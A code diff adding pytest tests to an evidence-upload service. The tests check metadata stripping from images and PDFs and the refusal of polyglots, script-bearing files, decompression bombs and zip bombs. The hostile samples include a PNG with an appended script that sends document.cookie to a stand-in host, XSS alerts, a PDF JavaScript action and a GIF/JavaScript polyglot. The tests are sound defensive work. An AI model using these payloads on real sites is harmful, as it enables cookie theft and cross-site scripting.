@@ -232,3 +232,284 @@ def test_key_rotation_reencrypts_every_stored_file(make_entry, documenter, media
     assert files.load(text.stored_path, files.aad(text, "original"), ring=new) == b"plain words"
     shared = files.load(photo.shared_path, files.aad(photo, "shared"), ring=new)
     assert shared.startswith(b"\xff\xd8")
+
+
+# --- Issue 7: metadata of every shared format, polyglots, bombs ------------------------------
+
+XMP = (
+    '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
+    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
+    f'xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="{CANARY}-XMP"/></rdf:RDF>'
+    '</x:xmpmeta><?xpacket end="w"?>'
+).encode()
+MARKERS = (CANARY.encode(), b"Canary Phone", b"xmpmeta", b"GPS")
+
+
+def exif_with_gps() -> Image.Exif:
+    exif = Image.Exif()
+    exif[0x010E] = CANARY
+    exif[0x0110] = "Canary Phone 9"
+    gps = exif.get_ifd(0x8825)
+    gps[1], gps[2], gps[3], gps[4] = "N", (26.0, 13.0, 44.0), "E", (50.0, 35.0, 10.0)
+    return exif
+
+
+def image_bytes(fmt: str, **options) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", (40, 30), (20, 120, 60)).save(out, format=fmt, **options)
+    return out.getvalue()
+
+
+def jpeg_with_everything() -> bytes:
+    return image_bytes("JPEG", exif=exif_with_gps(), xmp=XMP, comment=f"{CANARY}-comment".encode())
+
+
+def png_with_everything() -> bytes:
+    from PIL import PngImagePlugin
+
+    info = PngImagePlugin.PngInfo()
+    info.add_text("Author", f"{CANARY}-text")
+    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
+    return image_bytes("PNG", pnginfo=info, exif=exif_with_gps())
+
+
+def webp_with_everything() -> bytes:
+    return image_bytes("WEBP", exif=exif_with_gps(), xmp=XMP)
+
+
+def pdf_with_everything(javascript: bool = False) -> bytes:
+    """A PDF with its document information, XMP on the catalogue and a page, and private data."""
+    from pypdf import PdfWriter
+    from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject
+
+    writer = PdfWriter()
+    page = writer.add_blank_page(width=200, height=200)
+    writer.add_metadata({"/Author": CANARY, "/Producer": "Canary Phone PDF"})
+
+    def xmp_stream():
+        stream = StreamObject()
+        stream.set_data(XMP)
+        stream.update({NameObject("/Type"): NameObject("/Metadata")})
+        return writer._add_object(stream)
+
+    writer._root_object[NameObject("/Metadata")] = xmp_stream()
+    page[NameObject("/Metadata")] = xmp_stream()
+    page[NameObject("/PieceInfo")] = DictionaryObject(
+        {NameObject("/Canary"): TextStringObject(f"{CANARY}-piece")}
+    )
+    if javascript:
+        action = DictionaryObject(
+            {
+                NameObject("/S"): NameObject("/JavaScript"),
+                NameObject("/JS"): TextStringObject("app.alert('hello');"),
+            }
+        )
+        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def every_pdf_byte(data: bytes) -> bytes:
+    """The file's bytes and every object, streams decoded: compression hides no marker."""
+    from pypdf import PdfReader
+    from pypdf.generic import IndirectObject, StreamObject
+
+    reader = PdfReader(io.BytesIO(data))
+    numbers = {(n, g) for g, table in reader.xref.items() for n in table}
+    numbers |= {(n, 0) for n in reader.xref_objStm}
+    parts = [data]
+    for number, generation in sorted(numbers):
+        obj = IndirectObject(number, generation, reader).get_object()
+        parts.append(repr(obj).encode())
+        if isinstance(obj, StreamObject):
+            parts.append(obj.get_data())
+    return b"\n".join(parts)
+
+
+def shared_copy(item) -> bytes:
+    return files.load(item.shared_path, files.aad(item, "shared"))
+
+
+@pytest.mark.parametrize(
+    ("make", "fmt", "removed"),
+    [
+        (jpeg_with_everything, "JPEG", {"EXIF", "GPS location", "XMP", "comment"}),
+        (png_with_everything, "PNG", {"EXIF", "GPS location", "XMP", "text chunks"}),
+        (webp_with_everything, "WEBP", {"EXIF", "GPS location", "XMP"}),
+    ],
+)
+def test_the_shared_copy_of_an_image_has_no_exif_gps_or_xmp(
+    make, fmt, removed, make_entry, documenter
+):
+    data = make()
+    assert all(marker in data for marker in MARKERS[:3]), "the markers were not planted"
+    item = services.add_evidence(documenter, make_entry(), upload(f"x.{fmt.lower()}", data))
+    assert removed <= set(item.metadata_removed)
+    shared = shared_copy(item)
+    for marker in MARKERS:
+        assert marker not in shared, marker
+    image = Image.open(io.BytesIO(shared))
+    assert image.format == fmt and image.size == (40, 30)
+    assert len(image.getexif()) == 0
+    assert not {"exif", "xmp", "XML:com.adobe.xmp", "comment", "Author"} & set(image.info)
+
+
+def test_the_shared_copy_of_a_pdf_has_no_information_xmp_or_private_data(make_entry, documenter):
+    from pypdf import PdfReader
+
+    data = pdf_with_everything()
+    assert CANARY.encode() in every_pdf_byte(data) and b"xmpmeta" in every_pdf_byte(data)
+    item = services.add_evidence(documenter, make_entry(), upload("statement.pdf", data))
+    assert {"document information", "XMP", "page XMP"} <= set(item.metadata_removed)
+    shared = shared_copy(item)
+    everything = every_pdf_byte(shared)
+    for marker in (CANARY.encode(), b"Canary Phone", b"xmpmeta", b"PieceInfo"):
+        assert marker not in everything, marker
+    reader = PdfReader(io.BytesIO(shared))
+    assert not reader.metadata and reader.xmp_metadata is None
+    assert len(reader.pages) == 1 and "/Metadata" not in reader.pages[0]
+
+
+def jpeg_then_zip() -> bytes:
+    """Valid as a JPEG (readers stop at the end marker) and as a zip (read from the end)."""
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as z:
+        z.writestr("payload.html", "<p>hello</p>")
+    return image_bytes("JPEG") + archive.getvalue()
+
+
+def jpeg_with_html() -> bytes:
+    return image_bytes("JPEG", comment=b"<html><script>alert(document.domain)</script></html>")
+
+
+def png_with_script_after_the_end() -> bytes:
+    return image_bytes("PNG") + b"<script>fetch('//x.example/'+document.cookie)</script>"
+
+
+def gif_javascript() -> bytes:
+    """A GIF header whose every byte is printable: to a browser, also a JavaScript file."""
+    return b"GIF89a/*\x2f\x2a\x2a\x2f=1;alert(document.domain);/*" + b"*/" + b"\x3b"
+
+
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="4"/></svg>'
+HTML = b"<!doctype html><title>Statement</title><p>Witness statement</p>"
+
+
+@pytest.mark.parametrize(
+    ("name", "make", "message"),
+    [
+        ("photo.jpg", jpeg_then_zip, "also a zip archive"),
+        ("photo.jpg", jpeg_with_html, "web page or script code"),
+        ("photo.png", png_with_script_after_the_end, "web page or script code"),
+        ("photo.gif", gif_javascript, "This type of file is not accepted"),
+        ("statement.pdf", lambda: pdf_with_everything() + jpeg_then_zip()[-200:], None),
+        ("statement.pdf", lambda: pdf_with_everything(javascript=True), "scripts, embedded"),
+        ("drawing.svg", lambda: SVG, "web page or script code"),
+        ("drawing.txt", lambda: b"<?xml version='1.0'?>\n" + SVG, "web page or script code"),
+        ("statement.html", lambda: HTML, "web page or script code"),
+    ],
+)
+def test_polyglots_and_active_files_are_refused_with_a_clear_message_and_nothing_stored(
+    name, make, message, documenter_client, make_entry, media_root
+):
+    data = make()
+    entry = make_entry()
+    url = reverse("cases:record_new", kwargs={"uuid": entry.uuid, "kind": "evidence"})
+    response = documenter_client.post(
+        url, {"kind": "photo", "description": "x", "file": upload(name, data)}
+    )
+    assert response.status_code == 400, name
+    page = response.content.decode()
+    if message:
+        assert message in page
+    assert 'class="error-summary"' in page and "Traceback" not in page
+    assert_nothing_stored(media_root)
+
+
+def assert_nothing_stored(media_root) -> None:
+    assert not Evidence.objects.exists()
+    assert not AuditEvent.objects.filter(action="evidence.create").exists()
+    stored = (
+        [p for p in Path(media_root).rglob("*") if p.is_file()] if Path(media_root).exists() else []
+    )
+    assert stored == []
+
+
+def test_a_pdf_carrying_a_zip_at_its_end_is_refused_as_a_polyglot(make_entry, documenter):
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as z:
+        z.writestr("a.txt", "payload")
+    with pytest.raises(ValidationError) as caught:
+        services.add_evidence(
+            documenter, make_entry(), upload("a.pdf", pdf_with_everything() + archive.getvalue())
+        )
+    assert "also a zip archive" in caught.value.message_dict["file"][0]
+
+
+def png_header(width: int, height: int) -> bytes:
+    """A PNG that claims huge dimensions in a few dozen bytes (a decompression bomb's header)."""
+    import struct
+    import zlib
+
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)
+
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    idat = zlib.compress(b"\0" * 1024)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
+
+
+@pytest.mark.parametrize(("width", "height"), [(12_000, 10_000), (60_000, 60_000)])
+def test_a_decompression_bomb_image_is_refused_as_too_large(
+    width, height, documenter_client, make_entry, media_root
+):
+    entry = make_entry()
+    url = reverse("cases:record_new", kwargs={"uuid": entry.uuid, "kind": "evidence"})
+    data = png_header(width, height)
+    assert len(data) < 200
+    response = documenter_client.post(url, {"kind": "photo", "file": upload("bomb.png", data)})
+    assert response.status_code == 400
+    assert "The image is too large (over 100 million pixels)." in response.content.decode()
+    assert_nothing_stored(media_root)
+
+
+def test_a_zip_bomb_of_many_members_is_refused(make_entry, documenter, media_root):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", "<w:document/>")
+        for n in range(files.MAX_ZIP_MEMBERS + 1):
+            archive.writestr(f"word/media/{n}.bin", b"")
+    with pytest.raises(ValidationError) as caught:
+        services.add_evidence(documenter, make_entry(), upload("report.docx", out.getvalue()))
+    assert "archive bomb" in caught.value.message_dict["file"][0]
+    assert_nothing_stored(media_root)
+
+
+def test_an_oversized_upload_through_the_page_stores_nothing(
+    documenter_client, make_entry, settings, media_root
+):
+    settings.AMPARO_MAX_UPLOAD_BYTES = 64 * 1024
+    entry = make_entry()
+    url = reverse("cases:record_new", kwargs={"uuid": entry.uuid, "kind": "evidence"})
+    big = image_bytes("PNG") + b"\0" * (64 * 1024)
+    response = documenter_client.post(url, {"kind": "photo", "file": upload("big.png", big)})
+    assert response.status_code == 400
+    assert "larger than the limit" in response.content.decode()
+    assert_nothing_stored(media_root)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        b"Witness statement: they said <b>stop</b> and left at 5 < 6 pm.\n",
+        b"BMW car seen outside the office; plate unknown.\n",
+        "Declaración: «nos siguieron» — 3 de marzo.\n".encode(),
+    ],
+)
+def test_ordinary_text_is_still_accepted(text, make_entry, documenter):
+    assert services.add_evidence(documenter, make_entry(), upload("s.txt", text)).content_type == (
+        files.TEXT
+    )
